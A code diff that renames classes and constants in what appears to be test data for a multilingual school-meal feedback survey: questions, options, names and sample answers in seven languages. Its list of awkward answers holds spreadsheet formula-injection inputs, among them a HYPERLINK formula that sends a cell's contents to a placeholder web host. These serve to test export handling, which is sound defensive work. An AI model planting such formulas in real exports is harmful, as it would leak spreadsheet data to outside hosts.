@@ -9,7 +9,7 @@ from __future__ import annotations
 from typing import NamedTuple
 
 
-class Asked(NamedTuple):
+class Question(NamedTuple):
     """One question: its title and, for multiple choice, its options."""
 
     title: str
@@ -25,7 +25,7 @@ class Language(NamedTuple):
     share: int
     given_names: tuple[str, ...]
     family_names: tuple[str, ...]
-    questions: tuple[Asked, ...]
+    questions: tuple[Question, ...]
     answers: tuple[str, ...]
 
 
@@ -34,29 +34,31 @@ ENGLISH = Language(
     given_names=("Anita", "David", "Grace", "Joseph", "Leela", "Martin", "Nora", "Peter", "Ruth"),
     family_names=("Baker", "D'Costa", "Fernandes", "Hill", "Mathew", "O'Neil", "Thomas", "Wood"),
     questions=(
-        Asked(
+        Question(
             "Welcome! Who is answering today?\nReply with a number.",
             ("A parent", "A teacher", "A cook", "A pupil", "Someone else"),
         ),
-        Asked("Which class is the child in?", ("Class 1 or 2", "Classes 3 to 5", "Classes 6 to 8")),
-        Asked("Was a meal served at school today?", ("Yes", "No", "I do not know")),
-        Asked("What did the children say about the food?"),
-        Asked("How did the meal taste?", ("Very good", "Good", "So-so", "Bad")),
-        Asked(
+        Question(
+            "Which class is the child in?", ("Class 1 or 2", "Classes 3 to 5", "Classes 6 to 8")
+        ),
+        Question("Was a meal served at school today?", ("Yes", "No", "I do not know")),
+        Question("What did the children say about the food?"),
+        Question("How did the meal taste?", ("Very good", "Good", "So-so", "Bad")),
+        Question(
             "Was there enough food for everyone?", ("More than enough", "Just enough", "Too little")
         ),
-        Asked("Was the meal on time?", ("On time", "A little late", "Very late")),
-        Asked("If you could change one thing, what would it be?"),
-        Asked("Was there clean drinking water?", ("Yes", "Only for some time", "No")),
-        Asked(
+        Question("Was the meal on time?", ("On time", "A little late", "Very late")),
+        Question("If you could change one thing, what would it be?"),
+        Question("Was there clean drinking water?", ("Yes", "Only for some time", "No")),
+        Question(
             "Where did the children wash their hands?",
             ("At a tap, with soap", "At a tap, no soap", "From a bucket", "They did not wash"),
         ),
-        Asked(
+        Question(
             "How many stars for today's meal?",
             ("⭐⭐⭐⭐⭐ Excellent", "⭐⭐⭐⭐ Good", "⭐⭐⭐ Fair", "⭐⭐ Poor", "⭐ Very poor"),
         ),
-        Asked('Anything else we should know? Write "no" if there is nothing.'),
+        Question('Anything else we should know? Write "no" if there is nothing.'),
     ),
     answers=(
         "The rice was soft and warm today.",
@@ -85,27 +87,27 @@ HINDI = Language(
     given_names=("अनीता", "अर्जुन", "कविता", "गीता", "दीपक", "पूजा", "मोहन", "रमेश", "सुनीता"),
     family_names=("कुमार", "गुप्ता", "चौहान", "देवी", "मिश्रा", "यादव", "वर्मा", "शर्मा"),
     questions=(
-        Asked(
+        Question(
             "नमस्ते! आज कौन जवाब दे रहा है?\nकृपया संख्या लिखें।",
             ("माता या पिता", "शिक्षक", "रसोइया", "विद्यार्थी", "कोई और"),
         ),
-        Asked("बच्चा किस कक्षा में है?", ("कक्षा 1 या 2", "कक्षा 3 से 5", "कक्षा 6 से 8")),
-        Asked("क्या आज स्कूल में भोजन मिला?", ("हाँ", "नहीं", "पता नहीं")),
-        Asked("बच्चों ने खाने के बारे में क्या कहा?"),
-        Asked("भोजन का स्वाद कैसा था?", ("बहुत अच्छा", "अच्छा", "ठीक-ठाक", "खराब")),
-        Asked("क्या सबके लिए भोजन काफ़ी था?", ("ज़रूरत से ज़्यादा", "बस काफ़ी", "कम पड़ गया")),
-        Asked("क्या भोजन समय पर मिला?", ("समय पर", "थोड़ी देर से", "बहुत देर से")),
-        Asked("अगर आप एक चीज़ बदल सकें, तो क्या बदलेंगे?"),
-        Asked("क्या पीने का साफ़ पानी था?", ("हाँ", "कुछ समय तक ही", "नहीं")),
-        Asked(
+        Question("बच्चा किस कक्षा में है?", ("कक्षा 1 या 2", "कक्षा 3 से 5", "कक्षा 6 से 8")),
+        Question("क्या आज स्कूल में भोजन मिला?", ("हाँ", "नहीं", "पता नहीं")),
+        Question("बच्चों ने खाने के बारे में क्या कहा?"),
+        Question("भोजन का स्वाद कैसा था?", ("बहुत अच्छा", "अच्छा", "ठीक-ठाक", "खराब")),
+        Question("क्या सबके लिए भोजन काफ़ी था?", ("ज़रूरत से ज़्यादा", "बस काफ़ी", "कम पड़ गया")),
+        Question("क्या भोजन समय पर मिला?", ("समय पर", "थोड़ी देर से", "बहुत देर से")),
+        Question("अगर आप एक चीज़ बदल सकें, तो क्या बदलेंगे?"),
+        Question("क्या पीने का साफ़ पानी था?", ("हाँ", "कुछ समय तक ही", "नहीं")),
+        Question(
             "बच्चों ने हाथ कहाँ धोए?",
             ("नल पर, साबुन से", "नल पर, बिना साबुन", "बाल्टी से", "हाथ नहीं धोए"),
         ),
-        Asked(
+        Question(
             "आज के भोजन को कितने तारे देंगे?",
             ("⭐⭐⭐⭐⭐ शानदार", "⭐⭐⭐⭐ अच्छा", "⭐⭐⭐ ठीक", "⭐⭐ कमज़ोर", "⭐ बहुत खराब"),
         ),
-        Asked("और कुछ बताना चाहेंगे? कुछ न हो तो “नहीं” लिखें।"),
+        Question("और कुछ बताना चाहेंगे? कुछ न हो तो “नहीं” लिखें।"),
     ),
     answers=(
         "आज की खिचड़ी बहुत अच्छी थी।",
@@ -133,30 +135,30 @@ TAMIL = Language(
     given_names=("அருண்", "கவிதா", "செல்வி", "தமிழ்", "பிரியா", "மீனா", "முருகன்", "ராஜா"),
     family_names=("கண்ணன்", "குமார்", "சுந்தரம்", "செல்வம்", "நாதன்", "பாண்டியன்", "ராமன்"),
     questions=(
-        Asked(
+        Question(
             "வணக்கம்! இன்று யார் பதில் சொல்கிறீர்கள்?\nஎண்ணை அனுப்புங்கள்.",
             ("பெற்றோர்", "ஆசிரியர்", "சமையலர்", "மாணவர்", "வேறு ஒருவர்"),
         ),
-        Asked(
+        Question(
             "குழந்தை எந்த வகுப்பில் படிக்கிறது?",
             ("1 அல்லது 2", "3 முதல் 5 வரை", "6 முதல் 8 வரை"),
         ),
-        Asked("இன்று பள்ளியில் உணவு கொடுத்தார்களா?", ("ஆம்", "இல்லை", "தெரியாது")),
-        Asked("உணவைப் பற்றி குழந்தைகள் என்ன சொன்னார்கள்?"),
-        Asked("உணவின் சுவை எப்படி இருந்தது?", ("மிக நன்று", "நன்று", "பரவாயில்லை", "மோசம்")),
-        Asked("எல்லோருக்கும் உணவு போதுமானதாக இருந்ததா?", ("அதிகமாக", "போதுமானது", "போதவில்லை")),
-        Asked("உணவு நேரத்துக்கு வந்ததா?", ("சரியான நேரம்", "சற்று தாமதம்", "மிகத் தாமதம்")),
-        Asked("ஒரு விஷயத்தை மாற்றலாம் என்றால், எதை மாற்றுவீர்கள்?"),
-        Asked("சுத்தமான குடிநீர் இருந்ததா?", ("ஆம்", "சிறிது நேரம் மட்டும்", "இல்லை")),
-        Asked(
+        Question("இன்று பள்ளியில் உணவு கொடுத்தார்களா?", ("ஆம்", "இல்லை", "தெரியாது")),
+        Question("உணவைப் பற்றி குழந்தைகள் என்ன சொன்னார்கள்?"),
+        Question("உணவின் சுவை எப்படி இருந்தது?", ("மிக நன்று", "நன்று", "பரவாயில்லை", "மோசம்")),
+        Question("எல்லோருக்கும் உணவு போதுமானதாக இருந்ததா?", ("அதிகமாக", "போதுமானது", "போதவில்லை")),
+        Question("உணவு நேரத்துக்கு வந்ததா?", ("சரியான நேரம்", "சற்று தாமதம்", "மிகத் தாமதம்")),
+        Question("ஒரு விஷயத்தை மாற்றலாம் என்றால், எதை மாற்றுவீர்கள்?"),
+        Question("சுத்தமான குடிநீர் இருந்ததா?", ("ஆம்", "சிறிது நேரம் மட்டும்", "இல்லை")),
+        Question(
             "குழந்தைகள் எங்கே கை கழுவினார்கள்?",
             ("குழாயில், சோப்புடன்", "குழாயில், சோப்பு இல்லை", "வாளியில்", "கழுவவில்லை"),
         ),
-        Asked(
+        Question(
             "இன்றைய உணவுக்கு எத்தனை நட்சத்திரம்?",
             ("⭐⭐⭐⭐⭐ அருமை", "⭐⭐⭐⭐ நன்று", "⭐⭐⭐ சுமார்", "⭐⭐ குறைவு", "⭐ மிக மோசம்"),
         ),
-        Asked("வேறு ஏதாவது சொல்ல வேண்டுமா? இல்லையென்றால் “இல்லை” என எழுதுங்கள்."),
+        Question("வேறு ஏதாவது சொல்ல வேண்டுமா? இல்லையென்றால் “இல்லை” என எழுதுங்கள்."),
     ),
     answers=(
         "சாம்பார் சாதம் நன்றாக இருந்தது.",
@@ -184,27 +186,27 @@ BENGALI = Language(
     given_names=("অনিতা", "অমিত", "কাকলি", "তপন", "মিতা", "রুমা", "সুব্রত", "সোহেল"),
     family_names=("ঘোষ", "দত্ত", "দাস", "পাল", "বিশ্বাস", "মণ্ডল", "রায়", "সরকার"),
     questions=(
-        Asked(
+        Question(
             "নমস্কার! আজ কে উত্তর দিচ্ছেন?\nসংখ্যাটি লিখুন।",
             ("মা বা বাবা", "শিক্ষক", "রাঁধুনি", "ছাত্র বা ছাত্রী", "অন্য কেউ"),
         ),
-        Asked("শিশুটি কোন শ্রেণিতে পড়ে?", ("১ বা ২", "৩ থেকে ৫", "৬ থেকে ৮")),
-        Asked("আজ স্কুলে কি খাবার দেওয়া হয়েছে?", ("হ্যাঁ", "না", "জানি না")),
-        Asked("খাবার নিয়ে শিশুরা কী বলল?"),
-        Asked("খাবারের স্বাদ কেমন ছিল?", ("খুব ভালো", "ভালো", "মোটামুটি", "খারাপ")),
-        Asked("সবার জন্য কি যথেষ্ট খাবার ছিল?", ("দরকারের বেশি", "ঠিক যথেষ্ট", "কম পড়েছে")),
-        Asked("খাবার কি সময়মতো এসেছে?", ("সময়মতো", "একটু দেরিতে", "অনেক দেরিতে")),
-        Asked("একটি জিনিস বদলাতে পারলে কী বদলাতেন?"),
-        Asked("পরিষ্কার খাবার জল ছিল কি?", ("হ্যাঁ", "কিছুক্ষণ ছিল", "না")),
-        Asked(
+        Question("শিশুটি কোন শ্রেণিতে পড়ে?", ("১ বা ২", "৩ থেকে ৫", "৬ থেকে ৮")),
+        Question("আজ স্কুলে কি খাবার দেওয়া হয়েছে?", ("হ্যাঁ", "না", "জানি না")),
+        Question("খাবার নিয়ে শিশুরা কী বলল?"),
+        Question("খাবারের স্বাদ কেমন ছিল?", ("খুব ভালো", "ভালো", "মোটামুটি", "খারাপ")),
+        Question("সবার জন্য কি যথেষ্ট খাবার ছিল?", ("দরকারের বেশি", "ঠিক যথেষ্ট", "কম পড়েছে")),
+        Question("খাবার কি সময়মতো এসেছে?", ("সময়মতো", "একটু দেরিতে", "অনেক দেরিতে")),
+        Question("একটি জিনিস বদলাতে পারলে কী বদলাতেন?"),
+        Question("পরিষ্কার খাবার জল ছিল কি?", ("হ্যাঁ", "কিছুক্ষণ ছিল", "না")),
+        Question(
             "শিশুরা কোথায় হাত ধুয়েছে?",
             ("কলে, সাবান দিয়ে", "কলে, সাবান ছাড়া", "বালতি থেকে", "হাত ধোয়নি"),
         ),
-        Asked(
+        Question(
             "আজকের খাবারকে কত তারা দেবেন?",
             ("⭐⭐⭐⭐⭐ দারুণ", "⭐⭐⭐⭐ ভালো", "⭐⭐⭐ চলনসই", "⭐⭐ দুর্বল", "⭐ খুব খারাপ"),
         ),
-        Asked("আর কিছু জানাতে চান? না থাকলে “না” লিখুন।"),
+        Question("আর কিছু জানাতে চান? না থাকলে “না” লিখুন।"),
     ),
     answers=(
         "আজকের খিচুড়ি খুব ভালো ছিল।",
@@ -232,23 +234,25 @@ SPANISH = Language(
     given_names=("Ana", "Carlos", "Inés", "José", "Lucía", "Núria", "Pablo", "Sofía", "Tomás"),
     family_names=("Díaz", "Fernández", "Gómez", "Ibáñez", "López", "Muñoz", "Núñez", "Peña"),
     questions=(
-        Asked(
+        Question(
             "¡Hola! ¿Quién responde hoy?\nResponda con un número.",
             ("Madre o padre", "Docente", "Cocina", "Estudiante", "Otra persona"),
         ),
-        Asked("¿En qué curso está el niño o la niña?", ("1.º o 2.º", "De 3.º a 5.º", "6.º o más")),
-        Asked("¿Se sirvió comida hoy en la escuela?", ("Sí", "No", "No lo sé")),
-        Asked("¿Qué dijeron los niños de la comida?"),
-        Asked("¿Qué tal sabía la comida?", ("Muy bien", "Bien", "Regular", "Mal")),
-        Asked("¿Alcanzó la comida para todos?", ("Sobró", "Alcanzó justo", "Faltó")),
-        Asked("¿La comida llegó a tiempo?", ("A tiempo", "Un poco tarde", "Muy tarde")),
-        Asked("Si pudiera cambiar una sola cosa, ¿cuál sería?"),
-        Asked("¿Había agua potable limpia?", ("Sí", "Solo un rato", "No")),
-        Asked(
+        Question(
+            "¿En qué curso está el niño o la niña?", ("1.º o 2.º", "De 3.º a 5.º", "6.º o más")
+        ),
+        Question("¿Se sirvió comida hoy en la escuela?", ("Sí", "No", "No lo sé")),
+        Question("¿Qué dijeron los niños de la comida?"),
+        Question("¿Qué tal sabía la comida?", ("Muy bien", "Bien", "Regular", "Mal")),
+        Question("¿Alcanzó la comida para todos?", ("Sobró", "Alcanzó justo", "Faltó")),
+        Question("¿La comida llegó a tiempo?", ("A tiempo", "Un poco tarde", "Muy tarde")),
+        Question("Si pudiera cambiar una sola cosa, ¿cuál sería?"),
+        Question("¿Había agua potable limpia?", ("Sí", "Solo un rato", "No")),
+        Question(
             "¿Dónde se lavaron las manos los niños?",
             ("En el grifo, con jabón", "En el grifo, sin jabón", "En un balde", "No se lavaron"),
         ),
-        Asked(
+        Question(
             "¿Cuántas estrellas le da a la comida de hoy?",
             (
                 "⭐⭐⭐⭐⭐ Excelente",
@@ -258,7 +262,7 @@ SPANISH = Language(
                 "⭐ Muy mala",
             ),
         ),
-        Asked("¿Algo más que debamos saber? Escriba «no» si no hay nada."),
+        Question("¿Algo más que debamos saber? Escriba «no» si no hay nada."),
     ),
     answers=(
         "El arroz estaba rico y caliente.",
@@ -286,27 +290,27 @@ ARABIC = Language(
     given_names=("أحمد", "خالد", "سارة", "عمر", "فاطمة", "ليلى", "مريم", "يوسف"),
     family_names=("الحسن", "الخطيب", "السيد", "العلي", "النجار", "حداد", "منصور"),
     questions=(
-        Asked(
+        Question(
             "مرحبًا! من يجيب اليوم؟\nأرسل الرقم.",
             ("أحد الوالدين", "معلم", "طباخ", "تلميذ", "شخص آخر"),
         ),
-        Asked("في أي صف يدرس الطفل؟", ("الصف 1 أو 2", "الصفوف 3 إلى 5", "الصفوف 6 إلى 8")),
-        Asked("هل قُدمت وجبة في المدرسة اليوم؟", ("نعم", "لا", "لا أعرف")),
-        Asked("ماذا قال الأطفال عن الطعام؟"),
-        Asked("كيف كان طعم الوجبة؟", ("جيد جدًا", "جيد", "مقبول", "سيئ")),
-        Asked("هل كان الطعام كافيًا للجميع؟", ("أكثر من كافٍ", "كافٍ تمامًا", "غير كافٍ")),
-        Asked("هل وصلت الوجبة في موعدها؟", ("في الموعد", "متأخرة قليلًا", "متأخرة جدًا")),
-        Asked("لو استطعت تغيير شيء واحد، فما هو؟"),
-        Asked("هل توفرت مياه شرب نظيفة؟", ("نعم", "لبعض الوقت فقط", "لا")),
-        Asked(
+        Question("في أي صف يدرس الطفل؟", ("الصف 1 أو 2", "الصفوف 3 إلى 5", "الصفوف 6 إلى 8")),
+        Question("هل قُدمت وجبة في المدرسة اليوم؟", ("نعم", "لا", "لا أعرف")),
+        Question("ماذا قال الأطفال عن الطعام؟"),
+        Question("كيف كان طعم الوجبة؟", ("جيد جدًا", "جيد", "مقبول", "سيئ")),
+        Question("هل كان الطعام كافيًا للجميع؟", ("أكثر من كافٍ", "كافٍ تمامًا", "غير كافٍ")),
+        Question("هل وصلت الوجبة في موعدها؟", ("في الموعد", "متأخرة قليلًا", "متأخرة جدًا")),
+        Question("لو استطعت تغيير شيء واحد، فما هو؟"),
+        Question("هل توفرت مياه شرب نظيفة؟", ("نعم", "لبعض الوقت فقط", "لا")),
+        Question(
             "أين غسل الأطفال أيديهم؟",
             ("عند الصنبور، بالصابون", "عند الصنبور، بلا صابون", "من دلو", "لم يغسلوا أيديهم"),
         ),
-        Asked(
+        Question(
             "كم نجمة تعطي وجبة اليوم؟",
             ("⭐⭐⭐⭐⭐ ممتازة", "⭐⭐⭐⭐ جيدة", "⭐⭐⭐ مقبولة", "⭐⭐ ضعيفة", "⭐ سيئة جدًا"),
         ),
-        Asked("هل تود إضافة شيء آخر؟ اكتب «لا» إن لم يوجد."),
+        Question("هل تود إضافة شيء آخر؟ اكتب «لا» إن لم يوجد."),
     ),
     answers=(
         "كان الأرز لذيذًا وساخنًا.",
@@ -334,23 +338,27 @@ FRENCH = Language(
     given_names=("Aïcha", "Benoît", "Chloé", "Élise", "François", "Hélène", "Moussa", "Zoé"),
     family_names=("Béranger", "Diallo", "Lefèvre", "Mercier", "Noël", "Traoré", "Vallée"),
     questions=(
-        Asked(
+        Question(
             "Bonjour ! Qui répond aujourd'hui ?\nRépondez par un numéro.",
             ("Un parent", "Un enseignant", "Un cuisinier", "Un élève", "Quelqu'un d'autre"),
         ),
-        Asked("Dans quelle classe est l'enfant ?", ("1re ou 2e", "De la 3e à la 5e", "6e et plus")),
-        Asked("Un repas a-t-il été servi à l'école ?", ("Oui", "Non", "Je ne sais pas")),
-        Asked("Qu'ont dit les enfants du repas ?"),
-        Asked("Quel goût avait le repas ?", ("Très bon", "Bon", "Moyen", "Mauvais")),
-        Asked("Y en avait-il assez pour tous ?", ("Plus qu'assez", "Juste assez", "Pas assez")),
-        Asked("Le repas était-il à l'heure ?", ("À l'heure", "Un peu en retard", "Très en retard")),
-        Asked("Si vous pouviez changer une seule chose ?"),
-        Asked("Y avait-il de l'eau potable ?", ("Oui", "Un moment seulement", "Non")),
-        Asked(
+        Question(
+            "Dans quelle classe est l'enfant ?", ("1re ou 2e", "De la 3e à la 5e", "6e et plus")
+        ),
+        Question("Un repas a-t-il été servi à l'école ?", ("Oui", "Non", "Je ne sais pas")),
+        Question("Qu'ont dit les enfants du repas ?"),
+        Question("Quel goût avait le repas ?", ("Très bon", "Bon", "Moyen", "Mauvais")),
+        Question("Y en avait-il assez pour tous ?", ("Plus qu'assez", "Juste assez", "Pas assez")),
+        Question(
+            "Le repas était-il à l'heure ?", ("À l'heure", "Un peu en retard", "Très en retard")
+        ),
+        Question("Si vous pouviez changer une seule chose ?"),
+        Question("Y avait-il de l'eau potable ?", ("Oui", "Un moment seulement", "Non")),
+        Question(
             "Où les enfants se sont-ils lavé les mains ?",
             ("Au robinet, avec savon", "Au robinet, sans savon", "Dans un seau", "Nulle part"),
         ),
-        Asked(
+        Question(
             "Combien d'étoiles pour le repas ?",
             (
                 "⭐⭐⭐⭐⭐ Excellent",
@@ -360,7 +368,7 @@ FRENCH = Language(
                 "⭐ Très mauvais",
             ),
         ),
-        Asked("Autre chose à signaler ? Écrivez « non » s'il n'y a rien."),
+        Question("Autre chose à signaler ? Écrivez « non » s'il n'y a rien."),
     ),
     answers=(
         "Le riz était chaud et bien cuit.",
@@ -386,7 +394,7 @@ FRENCH = Language(
 LANGUAGES = (ENGLISH, HINDI, TAMIL, BENGALI, SPANISH, ARABIC, FRENCH)
 
 # Free text that breaks careless readers: formulas, quoting, line ends, blanks, look-alikes.
-AWKWARD = (
+AWKWARD_ANSWERS = (
     "=SUM(1,2)",
     '=HYPERLINK("https://example.invalid/?q="&A1,"open me")',
     "=1+1",
@@ -426,4 +434,4 @@ AWKWARD = (
 )
 
 # What people send instead of one of the options.
-STRAY = ("9", "hi", "ok", "??", "👍", "start", "1 2", "", "menu", "=1", "0", "all of them")
+STRAY_REPLIES = ("9", "hi", "ok", "??", "👍", "start", "1 2", "", "menu", "=1", "0", "all of them")
